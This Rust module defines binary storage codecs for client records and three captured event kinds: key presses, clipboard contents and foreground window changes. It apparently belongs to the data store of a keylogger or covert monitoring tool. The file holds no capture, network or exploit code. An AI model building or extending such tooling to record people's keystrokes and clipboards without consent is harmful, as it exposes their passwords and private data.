//! Fixed-size codecs for client records and the three event kinds.

use std::ops::Range;

use serde::Serialize;

use crate::primitives::bytes::{fixed, ne};
use crate::types::format::{
    CLIENT_ID_CAPACITY, CLIENT_RECORD_LEN, CLIPBOARD_CAPACITY, CLIPBOARD_LEN, KEYSTROKE_LEN,
    KEY_CAPACITY, PROCESS_CAPACITY, TITLE_CAPACITY, WINDOW_LEN,
};
use crate::types::{client_hash, EventKind, MeowError, Offset, Result};

const CR_CLIENT_ID: Range<usize> = 0..64;
const CR_HASH: Range<usize> = 64..68;
const CR_ACTIVE: usize = 68;
const CR_SESSIONS: Range<usize> = 72..76;
const CR_FIRST_SEEN: Range<usize> = 76..84;
const CR_LAST_SEEN: Range<usize> = 84..92;
const CR_TOTALS: usize = 92;
const CR_ROOTS: usize = 116;
const CR_RESERVED: Range<usize> = 140..CLIENT_RECORD_LEN;

const EV_TIMESTAMP: Range<usize> = 0..8;
const EV_HASH: Range<usize> = 8..12;

const KS_SEQUENCE: Range<usize> = 12..16;
const KS_KEY: Range<usize> = 16..64;

const CB_LENGTH: Range<usize> = 12..16;
const CB_CONTENT: Range<usize> = 16..512;

const WN_TITLE: Range<usize> = 16..144;
const WN_PROCESS: Range<usize> = 144..256;

const _: () = {
    assert!(CR_CLIENT_ID.end - CR_CLIENT_ID.start == CLIENT_ID_CAPACITY);
    assert!(CR_RESERVED.end == CLIENT_RECORD_LEN);
    assert!(KS_KEY.end == KEYSTROKE_LEN && KS_KEY.end - KS_KEY.start == KEY_CAPACITY);
    assert!(CB_CONTENT.end == CLIPBOARD_LEN && CB_CONTENT.end - CB_CONTENT.start == CLIPBOARD_CAPACITY);
    assert!(WN_TITLE.end - WN_TITLE.start == TITLE_CAPACITY);
    assert!(WN_PROCESS.end == WINDOW_LEN && WN_PROCESS.end - WN_PROCESS.start == PROCESS_CAPACITY);
};

/// The identifier as it will be stored: cut at its first NUL, then truncated
/// to fit its fixed field. Lookups, hashing, and registration all go through here.
pub fn stored_id(id: &str) -> &str {
    fixed::terminated(id, CLIENT_ID_CAPACITY - 1)
}

/// One directory slot's worth of client state.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct ClientRecord {
    /// Client identifier, at most 63 bytes.
    pub client_id: String,
    /// djb2 hash of `client_id`.
    pub client_hash: u32,
    /// Whether the client is currently connected.
    pub is_active: bool,
    /// Number of registrations since creation.
    pub session_count: u32,
    /// Creation time in microseconds.
    pub first_seen: u64,
    /// Last registration or event time in microseconds.
    pub last_seen: u64,
    /// Event counters indexed by [`EventKind::index`].
    pub totals: [u64; 3],
    /// Tree roots indexed by [`EventKind::index`]; zero means no tree yet.
    pub roots: [Offset; 3],
}

impl ClientRecord {
    /// Fresh record for `id` with one session and no events.
    pub fn new(id: &str, now: u64) -> Self {
        let client_id = stored_id(id).to_owned();
        Self {
            client_hash: client_hash(&client_id),
            client_id,
            is_active: true,
            session_count: 1,
            first_seen: now,
            last_seen: now,
            totals: [0; 3],
            roots: [0; 3],
        }
    }

    /// Event count for one kind.
    pub fn total(&self, kind: EventKind) -> u64 {
        self.totals[kind.index()]
    }

    /// Tree root for one kind.
    pub fn root(&self, kind: EventKind) -> Offset {
        self.roots[kind.index()]
    }

    /// Sum of all event counters.
    pub fn total_events(&self) -> u64 {
        self.totals.iter().sum()
    }

    /// Serializes into a 256-byte slot image.
    pub fn encode(&self) -> [u8; CLIENT_RECORD_LEN] {
        let mut buf = [0u8; CLIENT_RECORD_LEN];
        fixed::put_str(&mut buf[CR_CLIENT_ID], &self.client_id);
        ne::put_u32(&mut buf[CR_HASH], self.client_hash);
        buf[CR_ACTIVE] = self.is_active as u8;
        ne::put_u32(&mut buf[CR_SESSIONS], self.session_count);
        ne::put_u64(&mut buf[CR_FIRST_SEEN], self.first_seen);
        ne::put_u64(&mut buf[CR_LAST_SEEN], self.last_seen);
        for i in 0..3 {
            ne::put_u64(&mut buf[CR_TOTALS + i * 8..], self.totals[i]);
            ne::put_u64(&mut buf[CR_ROOTS + i * 8..], self.roots[i]);
        }
        buf
    }

    /// Parses a slot image; `None` when the slot is empty.
    pub fn decode(buf: &[u8]) -> Result<Option<Self>> {
        if buf.len() < CLIENT_RECORD_LEN {
            return Err(MeowError::Corruption(format!(
                "client slot truncated: {} of {CLIENT_RECORD_LEN} bytes",
                buf.len()
            )));
        }
        if fixed::is_blank(&buf[CR_CLIENT_ID]) {
            return Ok(None);
        }
        let mut totals = [0u64; 3];
        let mut roots = [0u64; 3];
        for i in 0..3 {
            totals[i] = ne::get_u64(&buf[CR_TOTALS + i * 8..]);
            roots[i] = ne::get_u64(&buf[CR_ROOTS + i * 8..]);
        }
        Ok(Some(Self {
            client_id: fixed::get_str(&buf[CR_CLIENT_ID]),
            client_hash: ne::get_u32(&buf[CR_HASH]),
            is_active: buf[CR_ACTIVE] != 0,
            session_count: ne::get_u32(&buf[CR_SESSIONS]),
            first_seen: ne::get_u64(&buf[CR_FIRST_SEEN]),
            last_seen: ne::get_u64(&buf[CR_LAST_SEEN]),
            totals,
            roots,
        }))
    }
}

/// Common surface of the three fixed-size event payloads.
pub trait EventRecord: Sized + Clone {
    /// Which per-client tree indexes this event.
    const KIND: EventKind;
    /// Encoded size in bytes.
    const LEN: usize;

    /// Index key.
    fn timestamp(&self) -> u64;
    /// Owning client's identifier hash.
    fn client_hash(&self) -> u32;
    /// Restamps the owning client's hash.
    fn set_client_hash(&mut self, hash: u32);
    /// Writes the payload into `buf`, which is exactly [`Self::LEN`] bytes.
    fn encode_into(&self, buf: &mut [u8]);
    /// Parses a payload of at least [`Self::LEN`] bytes.
    fn decode(buf: &[u8]) -> Result<Self>;

    /// Payload as an owned buffer.
    fn encode(&self) -> Vec<u8> {
        let mut buf = vec![0u8; Self::LEN];
        self.encode_into(&mut buf);
        buf
    }
}

fn check_len(buf: &[u8], want: usize, what: &str) -> Result<()> {
    if buf.len() < want {
        return Err(MeowError::Corruption(format!(
            "{what} record truncated: {} of {want} bytes",
            buf.len()
        )));
    }
    Ok(())
}

/// A captured key press.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Keystroke {
    /// Capture time in microseconds.
    pub timestamp: u64,
    /// Owning client's hash.
    pub client_hash: u32,
    /// Per-session sequence number.
    pub sequence: u32,
    /// Key text, at most 47 bytes.
    pub key: String,
}

impl Keystroke {
    /// Builds a keystroke; the client hash is stamped at insert time.
    pub fn new(timestamp: u64, sequence: u32, key: &str) -> Self {
        Self {
            timestamp,
            client_hash: 0,
            sequence,
            key: fixed::terminated(key, KEY_CAPACITY - 1).to_owned(),
        }
    }
}

impl EventRecord for Keystroke {
    const KIND: EventKind = EventKind::Keystroke;
    const LEN: usize = KEYSTROKE_LEN;

    fn timestamp(&self) -> u64 {
        self.timestamp
    }
    fn client_hash(&self) -> u32 {
        self.client_hash
    }
    fn set_client_hash(&mut self, hash: u32) {
        self.client_hash = hash;
    }

    fn encode_into(&self, buf: &mut [u8]) {
        buf.fill(0);
        ne::put_u64(&mut buf[EV_TIMESTAMP], self.timestamp);
        ne::put_u32(&mut buf[EV_HASH], self.client_hash);
        ne::put_u32(&mut buf[KS_SEQUENCE], self.sequence);
        fixed::put_str(&mut buf[KS_KEY], &self.key);
    }

    fn decode(buf: &[u8]) -> Result<Self> {
        check_len(buf, KEYSTROKE_LEN, "keystroke")?;
        Ok(Self {
            timestamp: ne::get_u64(&buf[EV_TIMESTAMP]),
            client_hash: ne::get_u32(&buf[EV_HASH]),
            sequence: ne::get_u32(&buf[KS_SEQUENCE]),
            key: fixed::get_str(&buf[KS_KEY]),
        })
    }
}

/// A clipboard capture.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Clipboard {
    /// Capture time in microseconds.
    pub timestamp: u64,
    /// Owning client's hash.
    pub client_hash: u32,
    /// Clipboard text, at most 495 bytes.
    pub content: String,
}

impl Clipboard {
    /// Builds a clipboard event; the client hash is stamped at insert time.
    pub fn new(timestamp: u64, content: &str) -> Self {
        Self {
            timestamp,
            client_hash: 0,
            content: fixed::truncate_utf8(content, CLIPBOARD_CAPACITY - 1).to_owned(),
        }
    }
}

impl EventRecord for Clipboard {
    const KIND: EventKind = EventKind::Clipboard;
    const LEN: usize = CLIPBOARD_LEN;

    fn timestamp(&self) -> u64 {
        self.timestamp
    }
    fn client_hash(&self) -> u32 {
        self.client_hash
    }
    fn set_client_hash(&mut self, hash: u32) {
        self.client_hash = hash;
    }

    fn encode_into(&self, buf: &mut [u8]) {
        buf.fill(0);
        ne::put_u64(&mut buf[EV_TIMESTAMP], self.timestamp);
        ne::put_u32(&mut buf[EV_HASH], self.client_hash);
        let stored = fixed::put_str_len(&mut buf[CB_CONTENT], &self.content);
        ne::put_u32(&mut buf[CB_LENGTH], stored as u32);
    }

    fn decode(buf: &[u8]) -> Result<Self> {
        check_len(buf, CLIPBOARD_LEN, "clipboard")?;
        let len = (ne::get_u32(&buf[CB_LENGTH]) as usize).min(CLIPBOARD_CAPACITY - 1);
        Ok(Self {
            timestamp: ne::get_u64(&buf[EV_TIMESTAMP]),
            client_hash: ne::get_u32(&buf[EV_HASH]),
            content: fixed::get_str_len(&buf[CB_CONTENT], len),
        })
    }
}

/// A foreground window change.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct WindowEvent {
    /// Capture time in microseconds.
    pub timestamp: u64,
    /// Owning client's hash.
    pub client_hash: u32,
    /// Window title, at most 127 bytes.
    pub title: String,
    /// Process name, at most 111 bytes.
    pub process: String,
}

impl WindowEvent {
    /// Builds a window event; the client hash is stamped at insert time.
    pub fn new(timestamp: u64, title: &str, process: &str) -> Self {
        Self {
            timestamp,
            client_hash: 0,
            title: fixed::terminated(title, TITLE_CAPACITY - 1).to_owned(),
            process: fixed::terminated(process, PROCESS_CAPACITY - 1).to_owned(),
        }
    }
}

impl EventRecord for WindowEvent {
    const KIND: EventKind = EventKind::Window;
    const LEN: usize = WINDOW_LEN;

    fn timestamp(&self) -> u64 {
        self.timestamp
    }
    fn client_hash(&self) -> u32 {
        self.client_hash
    }
    fn set_client_hash(&mut self, hash: u32) {
        self.client_hash = hash;
    }

    fn encode_into(&self, buf: &mut [u8]) {
        buf.fill(0);
        ne::put_u64(&mut buf[EV_TIMESTAMP], self.timestamp);
        ne::put_u32(&mut buf[EV_HASH], self.client_hash);
        fixed::put_str(&mut buf[WN_TITLE], &self.title);
        fixed::put_str(&mut buf[WN_PROCESS], &self.process);
    }

    fn decode(buf: &[u8]) -> Result<Self> {
        check_len(buf, WINDOW_LEN, "window")?;
        Ok(Self {
            timestamp: ne::get_u64(&buf[EV_TIMESTAMP]),
            client_hash: ne::get_u32(&buf[EV_HASH]),
            title: fixed::get_str(&buf[WN_TITLE]),
            process: fixed::get_str(&buf[WN_PROCESS]),
        })
    }
}
